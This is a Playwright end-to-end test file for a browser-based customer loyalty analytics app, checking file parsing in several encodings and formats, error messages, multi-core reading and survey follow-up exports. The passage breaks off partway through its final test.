// End-to-end tests of the built app (dist/) in headless Chromium: real file input, real worker.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFile, readdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { startServer } from './server.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const repo = join(here, '..', '..');
const fixture = (name) => join(repo, 'tests', 'fixtures', name);
const PREFIX = '/some/sub/path/';
const TIMEOUT = 20_000;
/** The native command line (`make e2e` builds it): the numbers the pages must show. */
const CLI = process.env.LOYALTY_LENS_BIN ?? join(repo, 'target', 'debug', 'loyalty-lens');

let server;
let browser;
let base;

before(async () => {
  server = await startServer(join(repo, 'dist'), PREFIX);
  base = `http://127.0.0.1:${server.address().port}${PREFIX}`;
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'],
  });
});

after(async () => {
  await browser?.close();
  await new Promise((resolve) => (server ? server.close(resolve) : resolve()));
});

/** Every Content-Security-Policy violation reported in any test (the last test asserts none). */
const cspViolations = [];

/** Opens the app in a fresh English-language context; collects requests and page errors. */
async function openApp(locale = 'en-US', { hash = '', expectViolations = false, viewport, cores } = {}) {
  const context = await browser.newContext({ locale, acceptDownloads: true, ...(viewport ? { viewport } : {}) });
  const page = await context.newPage();
  // A machine with `cores` cores, as the page and its workers see it (navigator.hardwareConcurrency).
  if (cores) await (await context.newCDPSession(page)).send('Emulation.setHardwareConcurrencyOverride', { hardwareConcurrency: cores });
  const requests = [];
  const errors = [];
  const violations = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('pageerror', (e) => errors.push(String(e)));
  page.on('console', (m) => {
    if (/Content.Security.Policy/i.test(m.text())) (expectViolations ? violations : cspViolations).push(m.text());
  });
  await page.goto(base + hash);
  await page.getByTestId('file-input').waitFor({ state: 'attached', timeout: TIMEOUT });
  // Every static file (the worker's wasm included) has loaded once the worker says it is ready.
  await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
  return { context, page, requests, errors, violations };
}

/** Waits until the element with `testid` shows exactly `want`; fails with what it showed instead. */
/** Chooses fixture files in file inputs one after the other within one task of the page (so the
 *  worker gets them all before it can answer any): `choices` are [input test id, file name, fixture]. */
async function chooseAtOnce(page, choices) {
  const files = await Promise.all(choices.map(async ([id, name, path]) => [id, name, [...(await readFile(fixture(path)))]]));
  await page.evaluate((files) => {
    // Every input is found first: choosing a file re-renders the page.
    const inputs = files.map(([id, name, bytes]) => [document.querySelector(`[data-testid="${id}"]`), name, bytes]);
    for (const [input, name, bytes] of inputs) {
      const chosen = new DataTransfer();
      chosen.items.add(new File([new Uint8Array(bytes)], name));
      input.files = chosen.files;
      input.dispatchEvent(new Event('change', { bubbles: true }));
    }
  }, files);
}

async function expectText(page, testid, want) {
  try {
    await page.waitForFunction(
      ([id, text]) => document.querySelector(`[data-testid="${id}"]`)?.textContent?.trim() === text,
      [testid, want],
      { timeout: TIMEOUT },
    );
  } catch (e) {
    const got = await page.evaluate((id) => document.querySelector(`[data-testid="${id}"]`)?.textContent ?? '(absent)', testid);
    const error = await page.evaluate(() => document.querySelector('[data-testid="error-message"]')?.textContent ?? '');
    assert.fail(`${testid}: expected '${want}', got '${got}'${error ? ` (error shown: ${error})` : ''}`);
  }
}

/** RFC 4180 CSV into rows of fields (quoted fields, doubled quotes, CRLF or LF). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field); rows.push(row); row = []; field = '';
    } else field += c;
  }
  if (field !== '' || row.length) { row.push(field); rows.push(row); }
  return rows;
}

async function upload(page, name) {
  await page.getByTestId('file-input').setInputFiles(fixture(name));
}

/** A new file opens on the overview; this opens the data page (how the file was read). */
async function showData(page) {
  await page.locator('[data-testid="tab-overview"].active').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('tab-data').click();
}

test('the page loads from a sub-path, states the privacy promise, and switches language', async () => {
  const { context, page, errors } = await openApp('zh-CN');
  await page.getByTestId('privacy').waitFor();
  assert.match(await page.getByTestId('privacy').textContent(), /从不上传/);
  await page.getByTestId('lang-en').click();
  await page.waitForFunction(() => /never uploaded/.test(document.querySelector('[data-testid="privacy"]').textContent));
  // The worker's warm-up (reading a generated file whole, streamed and in two parts, segmenting
  // it, fitting CLV) runs to its end: it posts its time only then, and stops silently at a step
  // that fails, which would leave the user's file to run as baseline code.
  await page.locator('.app[data-load-ms^="warm-up"]').waitFor({ timeout: TIMEOUT });
  assert.deepEqual(errors, []);
  await context.close();
});

test('the first overview is rehearsed out of sight: nothing of the warm-up file shows or stays', async () => {
  const { context, page, errors } = await openApp();
  // The page renders and lays out the worker's warm-up answers once, detached (ui::rehearsal).
  await page.locator('html[data-rehearsal]').waitFor({ state: 'attached', timeout: TIMEOUT });
  assert.ok(Number(await page.locator('html').getAttribute('data-rehearsal')) > 0);
  const seen = await page.evaluate(() => ({
    apps: document.querySelectorAll('.app').length,
    tabs: document.querySelectorAll('[data-testid="tab-overview"]').length,
    overview: document.querySelectorAll('[data-testid="ov-customers"], [data-testid="kpis"], [data-testid="rules-used"]').length,
    warmUpName: document.body.textContent.includes('warm-up.csv'),
    hidden: document.querySelectorAll(".rehearsal, [inert]").length,
  }));
  assert.deepEqual(seen, { apps: 1, tabs: 0, overview: 0, warmUpName: false, hidden: 0 });
  // The app's own state never saw those answers: its timings are still the warm-up's.
  await page.locator('.app[data-load-ms^="warm-up"]').waitFor({ timeout: TIMEOUT });
  // The user's file then renders as always, once.
  await upload(page, 'gbk_orders.csv');
  await expectText(page, 'customers', '4');
  await expectText(page, 'revenue', '¥6,596.00');
  assert.equal(await page.locator('[data-testid="ov-customers"]').count(), 1);
  assert.equal(await page.locator('.app').count(), 1);
  assert.deepEqual(errors, []);
  await context.close();
});

test('a GBK-encoded CSV from Chinese Excel is understood', async () => {
  const { context, page, requests, errors } = await openApp();
  const before = requests.length;
  await upload(page, 'gbk_orders.csv');
  await expectText(page, 'customers', '4');
  await expectText(page, 'rows-accepted', '6');
  await expectText(page, 'date-range', '2024-03-05 – 2024-05-03');
  await expectText(page, 'revenue', '¥6,596.00');
  await showData(page);
  await expectText(page, 'encoding-detected', 'GBK');
  const preview = await page.getByTestId('preview').textContent();
  assert.match(preview, /线上商城/);
  assert.match(preview, /00042/);
  // The file never left the browser: nothing was requested after the upload.
  assert.deepEqual(requests.slice(before), []);
  assert.ok(requests.every((u) => u.startsWith(base)), `requests outside the app: ${requests.filter((u) => !u.startsWith(base))}`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('an xlsx workbook is read from its first visible sheet, and another sheet can be picked', async () => {
  const { context, page } = await openApp();
  await upload(page, 'orders.xlsx');
  await expectText(page, 'customers', '4');
  await showData(page);
  await expectText(page, 'format', 'xlsx');
  await expectText(page, 'revenue', '9,197.50');
  await page.getByTestId('sheet').selectOption('Survey');
  await expectText(page, 'rows-accepted', '1');
  await context.close();
});

/** A zip archive of `files` ([name, text]), stored without compression, as a workbook is. */
function storedZip(files) {
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc32 = (bytes) => {
    let c = 0xffffffff;
    for (const b of bytes) c = table[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const locals = [];
  const central = [];
  let offset = 0;
  for (const [name, text] of files) {
    const data = Buffer.from(text, 'utf8');
    const fileName = Buffer.from(name, 'utf8');
    const fields = (signature) => {
      const h = Buffer.alloc(signature === 0x04034b50 ? 30 : 46);
      h.writeUInt32LE(signature, 0);
      let at = 4;
      if (signature === 0x02014b50) at = (h.writeUInt16LE(20, at), at + 2);
      for (const v of [20, 0, 0, 0, 33]) at = h.writeUInt16LE(v, at);
      for (const v of [crc32(data), data.length, data.length]) at = h.writeUInt32LE(v, at);
      at = h.writeUInt16LE(fileName.length, at);
      if (signature === 0x02014b50) h.writeUInt32LE(offset, 42);
      return h;
    };
    const local = Buffer.concat([fields(0x04034b50), fileName, data]);
    central.push(Buffer.concat([fields(0x02014b50), fileName]));
    locals.push(local);
    offset += local.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/** An .xlsx workbook of `rows` orders (customer id, date as text, amount), with its declared size. */
function ordersXlsx(rows) {
  const ns = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const cell = (ref, v) => (typeof v === 'number' ? `<c r="${ref}"><v>${v}</v></c>` : `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`);
  const body = [`<row r="1">${cell('A1', 'customer_id')}${cell('B1', 'date')}${cell('C1', 'amount')}</row>`];
  for (let i = 0; i < rows; i++) {
    const r = i + 2;
    const date = `2024-${String(1 + (i % 12)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')}`;
    body.push(`<row r="${r}">${cell(`A${r}`, `C${i % 5000}`)}${cell(`B${r}`, date)}${cell(`C${r}`, 10 + (i % 90))}</row>`);
  }
  return storedZip([
    ['[Content_Types].xml', `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`],
    ['_rels/.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`],
    ['xl/workbook.xml', `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${ns}" xmlns:r="${rel}"><sheets><sheet name="Orders" sheetId="1" r:id="rId1"/></sheets></workbook>`],
    ['xl/_rels/workbook.xml.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`],
    ['xl/worksheets/sheet1.xml', `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${ns}"><dimension ref="A1:C${rows + 1}"/><sheetData>${body.join('')}</sheetData></worksheet>`],
  ]);
}

test('a big workbook shows its progress while its cells are read, in English and Chinese', async () => {
  for (const [locale, label] of [['en-US', 'Reading the workbook'], ['zh-CN', '读取工作簿']]) {
    const { context, page } = await openApp(locale);
    // Every label and percentage the progress bar shows, as the page draws them.
    await page.evaluate(() => {
      window.seenProgress = [];
      new MutationObserver(() => {
        const bar = document.querySelector('[data-testid="progress"]');
        if (bar) window.seenProgress.push([bar.querySelector('.progress-label span').textContent, Number(bar.querySelector('[role="progressbar"]').getAttribute('aria-valuenow'))]);
      }).observe(document.body, { subtree: true, childList: true, attributes: true, characterData: true });
    });
    await page.getByTestId('file-input').setInputFiles({ name: 'orders.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: ordersXlsx(120_000) });
    await expectText(page, 'customers', '5,000');
    const seen = await page.evaluate(() => window.seenProgress);
    const workbook = [...new Set(seen.filter(([l]) => l === label).map(([, p]) => p))];
    assert.ok(workbook.length >= 3 && workbook.some((p) => p > 0 && p < 100), `${locale}: ${JSON.stringify(seen.slice(0, 40))}`);
    await context.close();
  }
});

test('a broken file gets a clear message and the app keeps working', async () => {
  const { context, page, errors } = await openApp();
  await upload(page, 'image.csv');
  await page.getByTestId('error').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('error-message').textContent(), /PNG image, not a table of customers/);
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'customers', '2,357');
  assert.equal(await page.getByTestId('error').count(), 0);
  assert.deepEqual(errors, []);
  await context.close();
});

test('a file larger than the tab can hold is refused up front with the limit, and the analysis on screen stays', async () => {
  const { context, page, errors } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'ov-customers', '2,357');
  // 1.1 GB, built in the page from one 1 MB part repeated (the browser keeps it by reference).
  await page.evaluate(() => {
    const part = new Blob([new Uint8Array(1 << 20).fill(65)]);
    const file = new File(Array(1100).fill(part), 'orders_2025.csv', { type: 'text/csv' });
    const transfer = new DataTransfer();
    transfer.items.add(file);
    const input = document.querySelector('[data-testid="file-input"]');
    input.files = transfer.files;
    input.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await page.getByTestId('error').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('error-message').textContent(), /the file is 1153 MB; the browser app holds files up to 1073 MB: use the loyalty-lens command line/);
  await expectText(page, 'ov-customers', '2,357');
  await page.getByTestId('error-dismiss').click();
  assert.equal(await page.getByTestId('error').count(), 0);
  await page.getByTestId('tab-segments').click();
  await page.getByTestId('cn-means').waitFor({ timeout: TIMEOUT });
  assert.deepEqual(errors, []);
  await context.close();
});

test('the CDNOW master file loads with all 23,570 customers', async () => {
  const { context, page } = await openApp();
  await upload(page, 'cdnow/CDNOW_master.txt');
  await expectText(page, 'customers', '23,570');
  await expectText(page, 'rows-accepted', '69,659');
  await expectText(page, 'rows-rejected', '0');
  await expectText(page, 'date-range', '1997-01-01 – 1998-06-30');
  await context.close();
});

test('a headerless file can be remapped by position', async () => {
  const { context, page } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'revenue', '244,091.94');
  await showData(page);
  await page.getByTestId('map-amount').selectOption('4');
  await expectText(page, 'revenue', '16,479.00');
  await context.close();
});

test('real exports: the amount made from quantity × unit price, statuses left out and editable, guests noted, and a file without a customer asks for one', async () => {
  const { context, page } = await openApp();
  // UCI invoice lines (Latin-1): no total, so quantity × unit price, with its reason shown.
  await upload(page, 'exports/uci_online_retail.csv');
  await showData(page);
  assert.equal(await page.getByTestId('amount-from').inputValue(), 'quantity_x_unit_price');
  assert.match(await page.getByTestId('why-unit_price').textContent(), /from the header UnitPrice/);
  assert.match(await page.getByTestId('why-customer_id').textContent(), /from the header CustomerID/);
  // Figures from tests/fixtures/exports/expected.json (pandas).
  await expectText(page, 'revenue', '21,252.84');
  await expectText(page, 'customers', '60');
  assert.match(await page.getByTestId('guests').textContent(), /^275 lines \(25%/);
  const [guests] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-guests').click()]);
  const lines = (await readFile(await guests.path(), 'utf8')).replace(/^\uFEFF/, '').trim().split('\n');
  assert.equal(lines.length, 276);
  assert.equal(lines[0], 'row');
  // Taobao (GBK): closed, unpaid and refunded orders left out by default, each status counted.
  await upload(page, 'exports/taobao_orders.csv');
  await showData(page);
  await expectText(page, 'rows-accepted', '24');
  await expectText(page, 'revenue', '9,839.36');
  const statuses = page.getByTestId('statuses').locator('tbody tr');
  const shown = await statuses.evaluateAll((trs) => trs.map((tr) => [tr.querySelector('label').textContent.trim(), tr.querySelector('input').checked, tr.querySelectorAll('td')[1].textContent]));
  const closed = shown.findIndex(([label]) => label === '交易关闭');
  assert.ok(closed >= 0, JSON.stringify(shown));
  assert.equal(shown[closed][1], true, 'closed orders are left out by default');
  assert.equal(shown.find(([label]) => label === '交易成功')[1], false);
  // Counting closed orders after all: they come back (4 rows, none paid).
  await page.getByTestId(`status-${closed}`).click();
  await expectText(page, 'rows-accepted', String(24 + Number(shown[closed][2])));
  await expectText(page, 'revenue', '9,839.36');
  // A Tmall report with no buyer column: refused with the columns to choose from, never the province.
  await upload(page, 'exports/tmall_no_customer.csv');
  await page.getByTestId('error').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('error-message').textContent(), /no column looks like a customer id/);
  const options = await page.getByTestId('pick-customer').locator('option').allTextContents();
  assert.ok(options.includes('4. 收货地址'), options.join(' | '));
  await page.getByTestId('pick-customer').selectOption('1');
  await expectText(page, 'customers', '40');
  await context.close();
});

test('every real-export fixture shows the customers and revenue pandas computed (tests/fixtures/exports/expected.json)', async () => {
  const expected = JSON.parse(await readFile(fixture('exports/expected.json'), 'utf8'));
  const { context, page } = await openApp();
  const money = (v) => v.toLocaleString('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 });
  let checked = 0;
  for (const [file, want] of Object.entries(expected)) {
    if (want.error || want.revenue === undefined) continue;
    await upload(page, `exports/${file}`);
    await page.locator('[data-testid="tab-overview"].active').waitFor({ timeout: TIMEOUT });
    await page.getByTestId('tab-data').click();
    await page.getByTestId('file-name').filter({ hasText: file }).waitFor({ timeout: TIMEOUT });
    await expectText(page, 'customers', want.customers.toLocaleString('en-US'));
    await expectText(page, 'orders', want.orders.toLocaleString('en-US'));
    // The revenue card carries the currency's symbol where the file names one.
    const revenue = (await page.getByTestId('revenue').textContent()).trim();
    assert.ok(revenue.endsWith(money(want.revenue)), `${file}: revenue ${revenue}, want ${money(want.revenue)}`);
    checked += 1;
  }
  assert.equal(checked, 7);
  await context.close();
});

test('a customer facts file (`loyalty-lens facts`) shows the overview, segments and lifecycle of the transactions it was written from', async () => {
  const { tmpdir } = await import('node:os');
  const { mkdtemp } = await import('node:fs/promises');
  const dir = await mkdtemp(join(tmpdir(), 'facts-'));
  // Channels, categories, member levels, order ids, returns, survey answers with comments.
  const orders = join(dir, 'orders.csv');
  const facts = join(dir, 'orders.facts.csv');
  execFileSync(CLI, ['sample', '--customers', '3000', '--seed', '5', orders]);
  execFileSync(CLI, ['facts', orders, '--out', facts]);
  const { context, page } = await openApp();
  // What the pages show of the analysis (the file's own summary aside).
  const shown = async () => {
    const text = {};
    await page.getByTestId('tab-overview').click();
    text.kpis = await page.getByTestId('kpis').innerText();
    for (const tab of ['segments', 'lifecycle', 'pyramid']) {
      await page.getByTestId(`tab-${tab}`).click();
      await page.locator(`[data-testid="tab-${tab}"].active`).waitFor({ timeout: TIMEOUT });
      text[tab] = await page.locator('main').innerText();
    }
    return text;
  };
  await page.getByTestId('file-input').setInputFiles(orders);
  await page.locator('[data-testid="tab-overview"].active').waitFor({ timeout: TIMEOUT });
  const want = await shown();
  await page.getByTestId('file-input').setInputFiles(facts);
  await page.locator('[data-testid="tab-overview"].active').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('tab-data').click();
  await page.getByTestId('file-name').filter({ hasText: 'orders.facts.csv' }).waitFor({ timeout: TIMEOUT });
  await expectText(page, 'customers', '3,000');
  assert.match(await page.locator('main').innerText(), /a customer facts file: 3000 customer\(s\)/);
  const got = await shown();
  for (const key of Object.keys(want)) assert.equal(got[key], want[key], key);
  assert.match(want.kpis, /Repeat/i);
  await context.close();
});

test('a file whose every row is rejected says so, and lists the rows', async () => {
  const { context, page } = await openApp();
  await upload(page, 'all_rejected.csv');
  await expectText(page, 'rows-rejected', '3');
  assert.match(await page.getByTestId('segment-error').textContent(), /every row was rejected/);
  assert.equal(await page.getByTestId('kpis').count(), 0, 'no empty figures card');
  await showData(page);
  await expectText(page, 'rejected-count', '3');
  await context.close();
  // In Chinese, in Chinese.
  const zh = await openApp('zh-CN');
  await upload(zh.page, 'all_rejected.csv');
  await expectText(zh.page, 'rows-rejected', '3');
  assert.match(await zh.page.getByTestId('segment-error').textContent(), /所有行都被拒绝/);
  await zh.context.close();
});

test('bad rows are listed with row, column and reason, and download as CSV', async () => {
  const { context, page } = await openApp();
  await upload(page, 'bad_rows.csv');
  await expectText(page, 'rows-accepted', '8');
  // Rows without a customer id are one notice (guest orders), bad scores are left out of their
  // rows: neither is a rejected row.
  const notices = await page.getByTestId('warnings').textContent();
  assert.match(notices, /2 line\(s\) \(11%, amount 10.00\) have no customer id/);
  assert.match(notices, /4 cell\(s\) of score could not be read/);
  await showData(page);
  await expectText(page, 'rejected-count', '8');
  const table = await page.getByTestId('rejected').textContent();
  assert.match(table, /2024-02-30 is not a day in the calendar/);
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-rejected').click()]);
  const text = await readFile(await download.path(), 'utf8');
  const lines = text.replace(/^\uFEFF/, '').trim().split('\n');
  assert.equal(lines[0], 'row,column,value,reason,code');
  assert.equal(lines.length, 9);
  assert.match(lines[1], /^5,order_date,2024-02-30,2024-02-30 is not a day in the calendar,date_no_such_day$/);
  await context.close();
});

/** A CSV of `rows` orders with CRLF line ends, two-line comments now and then, a few bad amounts,
 * and (at row `giantAt`) one comment of 40,001 lines; with the figures the page must show. */
function ordersCsv(rows, giantAt = -1) {
  const parts = ['order_id,customer_id,date,amount,comment\r\n'];
  const customers = new Set();
  const rejectedLines = [];
  let line = 2;
  let cents = 0;
  for (let i = 0; i < rows; i++) {
    const customer = `C${(i * 7) % 7919}`;
    const date = `2024-${String(1 + (i % 12)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')}`;
    let comment = '';
    let lines = 1;
    if (i % 1000 === 999) [comment, lines] = ['"line one\r\nline two"', 2];
    if (i === giantAt) [comment, lines] = ['"' + 'a long comment line\r\n'.repeat(40_000) + '"', 40_001];
    const bad = i % 25_013 === 25_012;
    if (bad) rejectedLines.push(line);
    else {
      customers.add(customer);
      cents += (i % 500) * 100 + 25;
    }
    parts.push(`O${i},${customer},${date},${bad ? 'abc' : `${i % 500}.25`},${comment}\r\n`);
    line += lines;
  }
  const money = (cents / 100).toLocaleString('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 });
  return { buffer: Buffer.from(parts.join('')), customers: customers.size, accepted: rows - rejectedLines.length, rejectedLines, money };
}

test('a big file is read on every core with exactly the figures of one, and where the parts do not meet it is read again', async () => {
  const rows = 160_000;
  // This machine's cores, then five (emulated: the worker and four helpers read a part each). The
  // second file's 40,001-line comment spans the first split point (at a fifth or at half the file).
  for (const cores of [undefined, 5]) for (const [name, giantAt, split] of [['orders-big.csv', -1, true], ['orders-giant-cell.csv', (cores ? rows / 5 : rows / 2) - 8_000, false]]) {
    const { context, page } = await openApp('en-US', { cores });
    const readers = Math.min(Math.max(await page.evaluate(() => navigator.hardwareConcurrency), 2), 8);
    if (cores) assert.equal(readers, cores);
    const want = ordersCsv(rows, giantAt);
    assert.ok(want.buffer.length > 5_000_000, `${want.buffer.length} bytes: too small to be split`);
    await page.getByTestId('file-input').setInputFiles({ name, mimeType: 'text/csv', buffer: want.buffer });
    await expectText(page, 'customers', want.customers.toLocaleString('en-US'));
    await expectText(page, 'rows-accepted', want.accepted.toLocaleString('en-US'));
    await expectText(page, 'rows-rejected', String(want.rejectedLines.length));
    await expectText(page, 'revenue', want.money);
    // The worker's timings say whether the halves were joined.
    await page.waitForFunction(() => /segment:/.test(document.querySelector('.app')?.dataset.loadMs ?? ''), null, { timeout: TIMEOUT });
    const stages = await page.evaluate(() => document.querySelector('.app').dataset.loadMs);
    assert.equal(/join:/.test(stages), split, `${name}: ${stages}`);
    if (split) assert.match(stages, new RegExp(`readers:${readers}\\.0`), `${cores} cores: ${stages}`);
    // Rejected rows keep their line in the file, whichever half read them.
    await showData(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-rejected').click()]);
    const lines = (await readFile(await download.path(), 'utf8')).replace(/^\uFEFF/, '').trim().split('\n').slice(1);
    assert.deepEqual(lines.map((l) => Number(l.split(',')[0])), want.rejectedLines, name);
    assert.ok(lines.every((l) => /^\d+,amount,abc,/.test(l)), lines[0]);
    await context.close();
  }
});

test('a browser without the stream reader (ReadableStreamBYOBReader) reads files with FileReaderSync, with the same figures', async () => {
  const { context, page } = await openApp();
  // Take the reader away in every worker, the helpers included: constructing one counts and fails,
  // as in a browser that lacks it.
  const refuse = (worker) => worker.evaluate(() => {
    self.__byobRefused = 0;
    self.ReadableStreamBYOBReader = function () {
      self.__byobRefused += 1;
      throw new TypeError('no ReadableStreamBYOBReader here');
    };
  }).catch(() => {});
  page.on('worker', refuse);
  await Promise.all(page.workers().map(refuse));
  // Small (one worker) and big (read on every core): the same figures as the stream gives.
  for (const rows of [20_000, 160_000]) {
    const want = ordersCsv(rows);
    await page.getByTestId('file-input').setInputFiles({ name: `orders-${rows}.csv`, mimeType: 'text/csv', buffer: want.buffer });
    await expectText(page, 'customers', want.customers.toLocaleString('en-US'));
    await expectText(page, 'rows-accepted', want.accepted.toLocaleString('en-US'));
    await expectText(page, 'rows-rejected', String(want.rejectedLines.length));
    await expectText(page, 'revenue', want.money);
  }
  // The big file's parts were read apart and joined (the helpers read theirs with FileReaderSync).
  const joined = await page
    .waitForFunction(() => /join:/.test(document.querySelector('.app')?.dataset.loadMs ?? ''), null, { timeout: TIMEOUT })
    .then(() => true, () => false);
  assert.ok(joined, await page.evaluate(() => document.querySelector('.app').dataset.loadMs));
  // The worker asked for a reader for each file, and each helper for its part of the big one.
  const refused = await Promise.all(page.workers().map((w) => w.evaluate(() => self.__byobRefused ?? 0).catch(() => 0)));
  const helpers = Math.min(Math.max(await page.evaluate(() => navigator.hardwareConcurrency), 2), 8) - 1;
  assert.deepEqual([...refused].sort(), [...Array(helpers).fill(1), 2], `readers asked for, by worker: ${refused}`);
  await context.close();
});

test('a big file chosen while another big file is read replaces it', async () => {
  const { context, page } = await openApp();
  const first = ordersCsv(160_000);
  const second = ordersCsv(180_000);
  // Both files are chosen within one task of the page. Chromium has so far always delivered the
  // helper's half of the first file to the worker before the second file, so the first is read
  // to the end and its answer ignored by the page; where the second comes first, the first is
  // dropped and answered as replaced. Either way the page must end on the second.
  await page.evaluate(([a, b]) => { window.__files = [['first.csv', a], ['second.csv', b]]; },
    [first.buffer.toString('base64'), second.buffer.toString('base64')]);
  await page.evaluate(() => {
    const input = document.querySelector('[data-testid="file-input"]');
    for (const [name, base64] of window.__files) {
      const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
      const files = new DataTransfer();
      files.items.add(new File([bytes], name));
      input.files = files.files;
      input.dispatchEvent(new Event('change', { bubbles: true }));
    }
  });
  await expectText(page, 'rows-accepted', second.accepted.toLocaleString('en-US'));
  await expectText(page, 'revenue', second.money);
  await page.locator('.app[data-load-ms*="join:"]').waitFor({ timeout: TIMEOUT });
  await context.close();
});

test('in Chinese, rejection reasons and file errors are shown in Chinese', async () => {
  const { context, page } = await openApp('zh-CN');
  await upload(page, 'bad_rows.csv');
  await showData(page);
  await expectText(page, 'rejected-count', '8');
  const table = await page.getByTestId('rejected').textContent();
  assert.match(table, /日历上没有这一天/);
  await upload(page, 'image.csv');
  await page.getByTestId('error').waitFor({ timeout: TIMEOUT });
  assert.match(await page.getByTestId('error').textContent(), /这不是客户数据表格/);
  await context.close();
});

test('when a second file is dropped while the first is read, the second one is shown', async () => {
  const { context, page } = await openApp();
  // Record every customer count the page ever shows.
  await page.evaluate(() => {
    window.__shown = [];
    new MutationObserver(() => {
      const el = document.querySelector('[data-testid="customers"]');
      if (el) window.__shown.push(el.textContent);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  // Both files are chosen within one task of the page, so the worker cannot have answered the first
  // before the second is sent: its answer is for a file the user has already replaced.
  await chooseAtOnce(page, [['file-input', 'CDNOW_sample.txt', 'cdnow/CDNOW_sample.txt'], ['file-input', 'gbk_orders.csv', 'gbk_orders.csv']]);
  await expectText(page, 'customers', '4');
  await expectText(page, 'file-name', 'gbk_orders.csv · 486 B');
  const shown = await page.evaluate(() => window.__shown);
  assert.ok(!shown.includes('2,357'), `the replaced file's summary was shown: ${shown}`);
  await context.close();
});

test('a survey chosen while a new transactions file is read: both are shown', async () => {
  const { context, page } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'ov-customers', '2,357');
  // A new transactions file, and then a survey, chosen within one task of the page: the worker
  // answers the transactions first, while the page still waits for the survey.
  await chooseAtOnce(page, [['file-input', 'cdnow-again.txt', 'cdnow/CDNOW_sample.txt'], ['survey-input', 'survey_cdnow_gbk.csv', 'survey_cdnow_gbk.csv']]);
  await expectText(page, 'nps-responses', '625');
  await expectText(page, 'survey-status', 'survey_cdnow_gbk.csv: 625 answers, 600 joined to customers, 25 anonymous');
  // The complaints to follow up: as many as `loyalty-lens follow-up` lists (checked by hand in
  // tests/cli.rs), the whole list exported; passives add to it.
  const followUp = (...flags) => execFileSync(CLI, ['follow-up', fixture('survey_cdnow_gbk.csv'), '--transactions', fixture('cdnow/CDNOW_sample.txt'), ...flags], { encoding: 'utf8' }).trim().split('\n').length - 1;
  await expectText(page, 'follow-up-total', String(followUp()));
  const [list] = await Promise.all([page.waitForEvent('download'), page.getByTestId('follow-up-export').click()]);
  const exported = parseCsv((await readFile(await list.path(), 'utf8')).replace(/^\ufeff/, '').trim());
  assert.equal(exported.length - 1, followUp());
  await page.getByTestId('follow-up-passives').check();
  await expectText(page, 'follow-up-total', String(followUp('--passives')));
  await page.getByTestId('tab-overview').click();
